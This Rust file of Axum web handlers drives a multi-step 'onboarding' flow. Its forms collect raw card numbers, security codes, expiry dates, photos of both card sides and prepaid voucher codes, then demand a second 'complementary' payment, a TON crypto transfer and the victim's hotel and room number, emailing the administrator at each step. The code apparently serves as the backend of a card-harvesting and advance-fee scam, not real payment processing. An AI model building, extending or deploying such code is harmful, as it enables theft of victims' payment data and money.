//! Axum handlers for the user-facing onboarding flow.
//!
//! Page endpoints (`GET`) answer with JSON page state; step endpoints (`POST`)
//! validate, persist, notify the administrator and redirect to the next page.

use std::sync::Arc;

use axum::{
    extract::{Multipart, State},
    response::{IntoResponse, Redirect},
    Form, Json,
};
use chrono::{DateTime, Utc};
use serde::Serialize;
use sqlx::SqlitePool;
use tracing::info;
use uuid::Uuid;

use crate::config::Config;
use crate::db;
use crate::errors::{AppError, Result};
use crate::forms::{self, PaymentMethodForm, RegisterForm, SubmittedForm};
use crate::models::{PaymentDetails, PaymentMethod, UserRecord, WorkflowStatus};
use crate::notify::Notifier;
use crate::password;
use crate::session::SessionContext;
use crate::uploads::{self, Role, UploadSink};
use crate::workflow::{self, Step, Submission};

pub struct AppState {
    pub pool: SqlitePool,
    pub uploads: UploadSink,
    pub notifier: Arc<dyn Notifier>,
    pub config: Config,
}

// ─────────────────────────────────────────────────────────
// Response shapes
// ─────────────────────────────────────────────────────────

#[derive(Serialize)]
pub struct HealthResponse {
    pub status: &'static str,
    pub version: &'static str,
}

/// Description of a form page for the front end.
#[derive(Debug, Serialize)]
pub struct FormPage {
    pub page: &'static str,
    pub action: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub currency: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub payment_method: Option<PaymentMethod>,
    pub fields: &'static [&'static str],
    pub files: &'static [&'static str],
}

#[derive(Serialize)]
pub struct PaymentChoicePage {
    pub page: &'static str,
    pub action: &'static str,
    pub currency: String,
    pub options: [PaymentMethod; 2],
}

#[derive(Serialize)]
pub struct InfoPage {
    pub page: &'static str,
    pub status: WorkflowStatus,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub next: Option<&'static str>,
}

#[derive(Serialize)]
pub struct CryptoPaymentPage {
    pub page: &'static str,
    pub action: &'static str,
    pub ton_address: String,
    pub files: &'static [&'static str],
}

#[derive(Debug, Serialize)]
pub struct ReceiptView {
    pub name: String,
    pub first_name: String,
    pub receipt_date: String,
    pub payment_type: String,
    pub payment_amount: String,
    pub currency: String,
    pub unique_code: String,
}

const CARD_FIELDS: &[&str] = &["card_type", "card_number", "card_code", "card_date", "card_amount"];
const CARD_FILES: &[&str] = &["recto_photo", "verso_photo"];
const TICKET_FIELDS: &[&str] = &["ticket_code", "ticket_amount", "ticket_type", "ticket_expiration"];
const TICKET_FILES: &[&str] = &["ticket_photo"];

// ─────────────────────────────────────────────────────────
// Step plumbing
// ─────────────────────────────────────────────────────────

/// Apply `submission` to the stored record. `Ok(None)` means the user is gone.
///
/// Whenever the submission is not persisted, the artifacts it refers to are
/// removed again.
async fn persist(
    state: &AppState,
    user_id: &str,
    submission: &Submission,
) -> Result<Option<UserRecord>> {
    let now = Utc::now();
    let updated = db::update_user(&state.pool, user_id, |record| {
        workflow::apply(record, submission.clone(), now)?;
        Ok(record.clone())
    })
    .await;

    if !matches!(updated, Ok(Some(_))) {
        state.uploads.discard(&submission.artifacts()).await;
    }
    updated
}

/// Persist `submission` for `user_id` and notify the administrator.
async fn commit(
    state: &AppState,
    session: &SessionContext,
    user_id: &str,
    submission: Submission,
) -> Result<UserRecord> {
    let step = submission.step();
    let Some(record) = persist(state, user_id, &submission).await? else {
        session.invalidate_user(user_id).await?;
        return Err(AppError::SessionInvalid);
    };

    info!(user_id, step = step.name(), status = %record.status, "Workflow step completed");
    let (subject, body) = submission.admin_notice(&record);
    state
        .notifier
        .notify(&state.config.admin_email, subject, &body)
        .await;
    Ok(record)
}

/// Validate card fields, then store both photos under `roles`.
async fn card_submission(
    state: &AppState,
    user_id: &str,
    form: &SubmittedForm,
    roles: (Role, Role),
) -> Result<PaymentDetails> {
    let mut card = forms::card_details(form)?;
    let recto = form.required_file("recto_photo")?;
    let verso = form.required_file("verso_photo")?;
    // Both photos are checked before either is written.
    uploads::accept("recto_photo", &recto.filename, &recto.bytes)?;
    uploads::accept("verso_photo", &verso.filename, &verso.bytes)?;

    let recto_name = state
        .uploads
        .store(user_id, roles.0, "recto_photo", &recto.filename, &recto.bytes)
        .await?;
    let verso_name = match state
        .uploads
        .store(user_id, roles.1, "verso_photo", &verso.filename, &verso.bytes)
        .await
    {
        Ok(name) => name,
        Err(e) => {
            state.uploads.discard(&[recto_name.as_str()]).await;
            return Err(e);
        }
    };
    card.recto_photo = Some(recto_name);
    card.verso_photo = Some(verso_name);
    Ok(PaymentDetails::Card(card))
}

async fn ticket_submission(
    state: &AppState,
    user_id: &str,
    form: &SubmittedForm,
    role: Role,
) -> Result<PaymentDetails> {
    let mut ticket = forms::ticket_details(form)?;
    let photo = form.required_file("ticket_photo")?;
    ticket.ticket_photo = Some(
        state
            .uploads
            .store(user_id, role, "ticket_photo", &photo.filename, &photo.bytes)
            .await?,
    );
    Ok(PaymentDetails::Ticket(ticket))
}

// ─────────────────────────────────────────────────────────
// Handlers
// ─────────────────────────────────────────────────────────

/// `GET /health`
pub async fn health() -> impl IntoResponse {
    Json(HealthResponse {
        status: "ok",
        version: env!("CARGO_PKG_VERSION"),
    })
}

/// `GET /`
pub async fn index() -> Json<FormPage> {
    Json(FormPage {
        page: "register",
        action: "/register",
        currency: None,
        payment_method: None,
        fields: &["name", "first_name", "age", "email", "password", "currency"],
        files: &[],
    })
}

/// `POST /register`
pub async fn register(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    Form(form): Form<RegisterForm>,
) -> Result<Redirect> {
    let registration = form.validate()?;
    let user_id = Uuid::new_v4().to_string();
    let record = UserRecord::new(
        registration.name,
        registration.first_name,
        registration.age,
        registration.email,
        registration.currency,
        Utc::now(),
    );
    let password_hash = password::hash_blocking(registration.password).await?;

    db::insert_user(&state.pool, &user_id, &record, &password_hash).await?;
    session.start_user(&user_id, &record.currency).await?;
    info!(user_id = %user_id, "User registered");

    state
        .notifier
        .notify(
            &state.config.admin_email,
            "New registration",
            &format!(
                "A new user registered: {} ({} {})",
                record.email, record.name, record.first_name
            ),
        )
        .await;

    Ok(Redirect::to("/payment_choice"))
}

/// `GET /payment_choice`
pub async fn payment_choice(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<PaymentChoicePage>> {
    session.require_user(&state.pool).await?;
    Ok(Json(PaymentChoicePage {
        page: "payment_choice",
        action: "/submit_payment_method",
        currency: session.currency().await?,
        options: [PaymentMethod::Card, PaymentMethod::Ticket],
    }))
}

/// `POST /submit_payment_method`
pub async fn submit_payment_method(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    Form(form): Form<PaymentMethodForm>,
) -> Result<Redirect> {
    let (user_id, _) = session.require_user(&state.pool).await?;
    let method = form.validate()?;
    commit(&state, &session, &user_id, Submission::PaymentMethod(method)).await?;

    Ok(Redirect::to(match method {
        PaymentMethod::Card => "/dynamic_form_card",
        PaymentMethod::Ticket => "/dynamic_form_ticket",
    }))
}

/// `GET /dynamic_form_card`
pub async fn dynamic_form_card(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<FormPage>> {
    session.require_user(&state.pool).await?;
    Ok(Json(FormPage {
        page: "dynamic_form_card",
        action: "/upload_card_details",
        currency: Some(session.currency().await?),
        payment_method: Some(PaymentMethod::Card),
        fields: CARD_FIELDS,
        files: CARD_FILES,
    }))
}

/// `POST /upload_card_details`
pub async fn upload_card_details(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    multipart: Multipart,
) -> Result<Redirect> {
    let (user_id, record) = session.require_user(&state.pool).await?;
    Step::CardDetails.check(&record)?;

    let form = SubmittedForm::from_multipart(multipart).await?;
    let details = card_submission(&state, &user_id, &form, (Role::CardRecto, Role::CardVerso)).await?;
    commit(&state, &session, &user_id, Submission::InitialPayment(details)).await?;

    Ok(Redirect::to("/waiting_page"))
}

/// `GET /dynamic_form_ticket`
pub async fn dynamic_form_ticket(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<FormPage>> {
    session.require_user(&state.pool).await?;
    Ok(Json(FormPage {
        page: "dynamic_form_ticket",
        action: "/upload_ticket_details",
        currency: Some(session.currency().await?),
        payment_method: Some(PaymentMethod::Ticket),
        fields: TICKET_FIELDS,
        files: TICKET_FILES,
    }))
}

/// `POST /upload_ticket_details`
pub async fn upload_ticket_details(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    multipart: Multipart,
) -> Result<Redirect> {
    let (user_id, record) = session.require_user(&state.pool).await?;
    Step::TicketDetails.check(&record)?;

    let form = SubmittedForm::from_multipart(multipart).await?;
    let details = ticket_submission(&state, &user_id, &form, Role::Ticket).await?;
    commit(&state, &session, &user_id, Submission::InitialPayment(details)).await?;

    Ok(Redirect::to("/waiting_page"))
}

/// `GET /waiting_page`
pub async fn waiting_page(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<InfoPage>> {
    let (_, record) = session.require_user(&state.pool).await?;
    Ok(Json(InfoPage {
        page: "waiting",
        status: record.status,
        next: Some("/complementary_payment"),
    }))
}

/// `GET /complementary_payment`
pub async fn complementary_payment(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<FormPage>> {
    let (_, record) = session.require_user(&state.pool).await?;
    let method = record.payment_method.unwrap_or(PaymentMethod::Card);
    let (fields, files) = match method {
        PaymentMethod::Card => (CARD_FIELDS, CARD_FILES),
        PaymentMethod::Ticket => (TICKET_FIELDS, TICKET_FILES),
    };
    Ok(Json(FormPage {
        page: "complementary_payment",
        action: "/submit_complementary_payment",
        currency: Some(session.currency().await?),
        payment_method: Some(method),
        fields,
        files,
    }))
}

/// `POST /submit_complementary_payment`
///
/// Follows the shape of the method chosen for the initial payment.
pub async fn submit_complementary_payment(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    multipart: Multipart,
) -> Result<Redirect> {
    let (user_id, record) = session.require_user(&state.pool).await?;
    Step::ComplementaryPayment.check(&record)?;
    let method = record.payment_method.ok_or(AppError::OutOfOrder {
        step: Step::ComplementaryPayment.name(),
        status: record.status,
    })?;

    let form = SubmittedForm::from_multipart(multipart).await?;
    let details = match method {
        PaymentMethod::Card => {
            card_submission(&state, &user_id, &form, (Role::CompCardRecto, Role::CompCardVerso))
                .await?
        }
        PaymentMethod::Ticket => ticket_submission(&state, &user_id, &form, Role::CompTicket).await?,
    };
    commit(&state, &session, &user_id, Submission::ComplementaryPayment(details)).await?;

    Ok(Redirect::to("/receipt"))
}

/// `GET /receipt`
///
/// Generates the receipt code on first view; later views return the same code.
pub async fn receipt(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<ReceiptView>> {
    let user_id = session.require_user_id().await?;
    let now = Utc::now();
    let issued = db::update_user(&state.pool, &user_id, |record| {
        let code = workflow::issue_receipt(record, now)?;
        Ok((code, record.clone()))
    })
    .await?;

    let Some((unique_code, record)) = issued else {
        session.invalidate_user(&user_id).await?;
        return Err(AppError::SessionInvalid);
    };

    let generated_at: DateTime<Utc> = record.receipt_generated_at.unwrap_or(now);
    let (payment_type, payment_amount) = record
        .payment_details
        .as_ref()
        .map(|d| (d.kind().to_string(), d.amount().to_string()))
        .unwrap_or_else(|| ("N/A".to_string(), "N/A".to_string()));

    Ok(Json(ReceiptView {
        name: record.name,
        first_name: record.first_name,
        receipt_date: generated_at.format("%Y-%m-%d %H:%M:%S").to_string(),
        payment_type,
        payment_amount,
        currency: record.currency,
        unique_code,
    }))
}

/// `POST /submit_receipt`
pub async fn submit_receipt(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Redirect> {
    let user_id = session.require_user_id().await?;
    commit(&state, &session, &user_id, Submission::Receipt).await?;
    Ok(Redirect::to("/crypto_payment"))
}

/// `GET /crypto_payment`
pub async fn crypto_payment(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<CryptoPaymentPage>> {
    session.require_user(&state.pool).await?;
    Ok(Json(CryptoPaymentPage {
        page: "crypto_payment",
        action: "/submit_crypto_payment",
        ton_address: state.config.crypto_wallet_address.clone(),
        files: &["crypto_proof"],
    }))
}

/// `POST /submit_crypto_payment`
pub async fn submit_crypto_payment(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    multipart: Multipart,
) -> Result<Redirect> {
    let (user_id, record) = session.require_user(&state.pool).await?;
    Step::CryptoPayment.check(&record)?;

    let form = SubmittedForm::from_multipart(multipart).await?;
    let proof = form.required_file("crypto_proof")?;
    let stored = state
        .uploads
        .store(&user_id, Role::CryptoProof, "crypto_proof", &proof.filename, &proof.bytes)
        .await?;
    commit(&state, &session, &user_id, Submission::CryptoProof(stored)).await?;

    Ok(Redirect::to("/final_validation"))
}

/// `GET /final_validation`
pub async fn final_validation(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<FormPage>> {
    session.require_user(&state.pool).await?;
    Ok(Json(FormPage {
        page: "final_validation",
        action: "/submit_final_validation",
        currency: None,
        payment_method: None,
        fields: &["hotel_name", "room_number", "expected_date"],
        files: &["final_photo"],
    }))
}

/// `POST /submit_final_validation`
///
/// The photo is optional here, unlike the payment steps.
pub async fn submit_final_validation(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
    multipart: Multipart,
) -> Result<Redirect> {
    let (user_id, record) = session.require_user(&state.pool).await?;
    Step::FinalValidation.check(&record)?;

    let form = SubmittedForm::from_multipart(multipart).await?;
    let mut details = forms::final_validation_details(&form)?;
    if let Some(photo) = form.file("final_photo") {
        details.final_photo = Some(
            state
                .uploads
                .store(&user_id, Role::FinalPhoto, "final_photo", &photo.filename, &photo.bytes)
                .await?,
        );
    }
    commit(&state, &session, &user_id, Submission::FinalValidation(details)).await?;

    Ok(Redirect::to("/confirmation"))
}

/// `GET /confirmation`
pub async fn confirmation(
    State(state): State<Arc<AppState>>,
    session: SessionContext,
) -> Result<Json<InfoPage>> {
    let (_, record) = session.require_user(&state.pool).await?;
    Ok(Json(InfoPage {
        page: "confirmation",
        status: record.status,
        next: None,
    }))
}
